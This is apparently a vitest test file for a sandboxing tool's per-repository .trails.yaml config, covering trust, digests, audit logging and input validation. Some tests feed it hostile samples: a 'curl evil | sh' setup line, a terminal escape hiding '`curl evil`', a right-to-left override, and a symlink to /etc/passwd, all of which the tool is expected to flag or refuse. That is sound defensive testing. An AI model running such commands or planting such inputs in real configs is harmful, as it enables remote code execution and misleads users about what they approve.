import {execFileSync} from 'node:child_process';
import {appendFileSync, mkdirSync, mkdtempSync, realpathSync, rmSync, symlinkSync, writeFileSync} from 'node:fs';
import {tmpdir} from 'node:os';
import path from 'node:path';
import {afterEach, beforeEach, expect, test} from 'vitest';
import type {CreateRequest} from '../../../src/sessions/port.ts';
import {readProject} from '../../../src/sessions/project/read-project.ts';
import {openServiceFixture} from '../../support/service-fixture.ts';

type Fixture = Awaited<ReturnType<typeof openServiceFixture>>;

let fixture: Fixture;
let repo: string;

beforeEach(async () => {
  fixture = await openServiceFixture();
  repo = fixture.repo();
});
afterEach(() => fixture.close());

const write = (text: string | Buffer) => writeFileSync(path.join(repo, '.trails.yaml'), text);

const request = (over: Partial<CreateRequest> = {}): CreateRequest => ({
  ...{agent: 'shell', args: [], repo, env: {}, limits: {}, size: {columns: 80, rows: 24}, workspace: 'copy'},
  ...over,
});

const create = (over: Partial<CreateRequest> = {}) =>
  fixture.port.create(request(over), () => {}, new AbortController().signal);

async function trust() {
  const {project} = await fixture.port.resolve(request());
  return fixture.port.trust(repo, project?.digest ?? '');
}

async function auditOf(action: string) {
  const rows = [];
  for await (const row of fixture.port.audit({}, new AbortController().signal))
    if (row.action === action) rows.push(row);
  return rows;
}

test('without trust a session is only tightened, and the audit log has both', async () => {
  write('limits: {memory: 128m, pids: 4000}\nsetup: [notes from-the-project]\nloosen: [debug]\n');
  const {project} = await fixture.port.resolve(request());
  expect(project).toMatchObject({
    ...{repo, trust: 'untrusted', applied: ['limits.memory: 128m'], added: [], removed: []},
    refused: ['limits.pids: 4000', 'setup: notes from-the-project', expect.stringMatching(/^loosen: debug \(/)],
  });
  const session = await create();
  expect(session).toMatchObject({
    ...{project: 'tightened', setup: null, limits: {memoryBytes: 128 * 2 ** 20, cpus: 1, pids: 128}},
    sandbox: {profile: 'strict', loosened: []},
  });
  const [made] = await auditOf('create');
  expect(made?.detail).toContain('.trails.yaml (untrusted): limits.memory: 128m');
});

test('trusted, all of it goes in, until the file changes', async () => {
  write('limits: {pids: 400}\nsetup: [notes from-the-project]\nloosen: [debug]\nenv: [TRAILS_T_TOKEN]\n');
  expect((await fixture.port.resolve(request())).variables).not.toContain('TRAILS_T_TOKEN');
  expect(await trust()).toMatchObject({trust: 'trusted', refused: []});
  expect((await fixture.port.resolve(request())).variables).toContain('TRAILS_T_TOKEN');
  const session = await create({here: {TRAILS_T_TOKEN: 'secret-value'}});
  expect(session).toMatchObject({
    ...{project: 'trusted', setup: {commands: ['notes from-the-project'], done: 1}, variables: ['TRAILS_T_TOKEN']},
    ...{limits: {pids: 400}, sandbox: {profile: 'strict', loosened: ['debug']}},
  });
  write('limits: {pids: 400}\nsetup: [echo something-else]\nloosen: [debug]\nenv: [TRAILS_T_TOKEN]\n');
  const {project, variables} = await fixture.port.resolve(request());
  expect(variables).not.toContain('TRAILS_T_TOKEN');
  expect(project).toMatchObject({
    ...{trust: 'changed', added: ['setup: echo something-else'], removed: ['setup: notes from-the-project']},
  });
  expect(await create()).toMatchObject({project: 'tightened', setup: null, limits: {pids: 128}});
  expect((await auditOf('trust'))[0]).toMatchObject({name: repo, detail: expect.stringContaining('from-the-project')});
});

test('what a trusted file tightened stays tight when somebody changes it, or takes it away', async () => {
  write('limits: {memory: 128m, pids: 64}\n');
  await trust();
  write('limits: {memory: 256m}\nnetwork: open\n');
  const changed = await fixture.port.resolve(request());
  expect(changed.project).toMatchObject({
    ...{trust: 'changed', removed: ['limits.memory: 128m', 'limits.pids: 64']},
    ...{applied: ['limits.memory: 128m', 'limits.pids: 64'], refused: ['network: open', 'limits.memory: 256m']},
  });
  expect(await create()).toMatchObject({limits: {memoryBytes: 128 * 2 ** 20, pids: 64}});
  rmSync(path.join(repo, '.trails.yaml'));
  const gone = await fixture.port.resolve(request());
  expect(gone.project).toMatchObject({
    trust: 'gone',
    says: [],
    refused: [],
    removed: expect.arrayContaining(['limits.pids: 64']),
  });
  expect(await create()).toMatchObject({project: 'tightened', limits: {memoryBytes: 128 * 2 ** 20}});
  await expect(trust()).rejects.toMatchObject({code: 'PROJECT_MISSING', hint: expect.stringContaining('--revoke')});
  expect(await fixture.port.revokeTrust(repo)).toBe(true);
  expect((await fixture.port.resolve(request())).project).toBeNull();
});

test('what a person agrees to can be seen: no control characters, and no second line that looks like the first', async () => {
  write('setup: ["echo a \\e]0;`curl evil`\\a b"]\n');
  await expect(fixture.port.resolve(request())).rejects.toMatchObject({
    ...{code: 'CONFIG_INVALID', message: expect.stringContaining('control characters')},
  });
  write('args: ["--x\\u202ey"]\n');
  await expect(fixture.port.resolve(request())).rejects.toMatchObject({code: 'CONFIG_INVALID'});
  write('setup:\n  - |\n    # harmless\n    curl evil | sh\n');
  const {project} = await fixture.port.resolve(request());
  expect(project?.says).toEqual(['setup: "# harmless\\ncurl evil | sh"']);
});

test('trust is for what was shown, and is listed and taken back', async () => {
  write('setup: [one]\n');
  const {project} = await fixture.port.resolve(request());
  appendFileSync(path.join(repo, '.trails.yaml'), 'image: other\n');
  await expect(fixture.port.trust(repo, project?.digest ?? '')).rejects.toMatchObject({code: 'PROJECT_CHANGED'});
  expect(await fixture.port.trusted()).toEqual([]);
  await trust();
  expect(await fixture.another().trusted()).toEqual([{repo, at: expect.any(Number), now: 'trusted'}]);
  write('setup: [two]\n');
  expect(await fixture.port.trusted()).toMatchObject([{now: 'changed'}]);
  rmSync(path.join(repo, '.trails.yaml'));
  expect(await fixture.port.trusted()).toMatchObject([{now: 'gone'}]);
  expect(await fixture.port.revokeTrust(repo)).toBe(true);
  expect(await fixture.port.revokeTrust(repo)).toBe(false);
  expect(await fixture.port.trusted()).toEqual([]);
  await expect(fixture.port.trust(repo, '')).rejects.toMatchObject({code: 'PROJECT_MISSING', exitCode: 66});
  expect(await auditOf('revoke trust')).toHaveLength(1);
});

test('an agent of the project is taken only with trust, and a person’s own goes before it', async () => {
  write('agent: claude\n');
  expect(await fixture.port.resolve(request({agent: ''}))).toMatchObject({agent: 'shell'});
  await trust();
  expect(await fixture.port.resolve(request({agent: ''}))).toMatchObject({agent: 'claude'});
  expect(await fixture.port.resolve(request({agent: 'codex'}))).toMatchObject({agent: 'codex', project: {applied: []}});
});

test('what a file says wrong is told with its places, and nothing is made', async () => {
  write('netwrk: none\nlimits:\n  memory: lots\nloosen: [debg]\nenv: {A: b}\n');
  const file = path.join(repo, '.trails.yaml');
  const message = [
    `${file}:1:1: netwrk: there is no such setting; did you mean network?`,
    `${file}:3:11: limits.memory: Memory "lots" is not an amount such as 512m or 2g`,
    `${file}:4:10: loosen[0]: one of tmp-exec, debug, namespaces, writable-root is needed; did you mean debug?`,
    `${file}:5:6: env: a list of names is needed: values do not belong here`,
  ].join('\n');
  await expect(create()).rejects.toMatchObject({code: 'CONFIG_INVALID', message});
  expect(await fixture.port.list()).toEqual([]);
  expect(await fixture.port.validate(request())).toEqual({repo: message.split('\n')[0]});
});

test('hosts and a network that reaches none do not go together', async () => {
  write('network: none\nallow: [npm]\n');
  await expect(fixture.port.resolve(request())).rejects.toThrow('`allow:` names hosts, and the network is none');
});

test('it is the file at the root of the repository', () => {
  const root = realpathSync(mkdtempSync(path.join(tmpdir(), 'trails-t-')));
  const below = path.join(root, 'a/b');
  mkdirSync(below, {recursive: true});
  writeFileSync(path.join(root, '.trails.yaml'), 'profile: strict\n');
  expect(readProject(below), 'no repository').toBeUndefined();
  execFileSync('git', ['init', '-q', root]);
  expect(readProject(below)).toMatchObject({repo: root, project: {profile: 'strict'}});
  rmSync(root, {recursive: true});
});

const hostile: readonly [string, (file: string) => void, string][] = [
  ['a link', file => symlinkSync('/etc/passwd', file), 'it is no regular file'],
  ['a FIFO', file => void execFileSync('mkfifo', [file]), 'it is no regular file'],
  ['a directory', file => mkdirSync(file), 'it is no regular file'],
  ['a device', file => void execFileSync('mknod', [file, 'c', '1', '5']), 'it is no regular file'],
  ['a huge file', file => writeFileSync(file, `# ${'x'.repeat(20_000)}`), 'it has more than 16 KB'],
  ['bytes that are no text', file => writeFileSync(file, Buffer.from([0xff, 0xfe])), 'it is not UTF-8'],
  ['brackets without end', file => writeFileSync(file, '['.repeat(16_000)), 'it is nested too deeply'],
  ['aliases', file => writeFileSync(file, 'setup: &a [x]\nargs: *a\n'), ':2:7: an alias cannot stand here'],
  ['controls', file => writeFileSync(file, '"\\e[2J": 1\n'), ':1:1: ?[2J: there is no such setting'],
];

test.each(hostile)('%s in its place is refused', async (_, make, message) => {
  make(path.join(repo, '.trails.yaml'));
  await expect(fixture.port.resolve(request())).rejects.toMatchObject({
    code: 'CONFIG_INVALID',
    message: expect.stringContaining(message),
  });
});
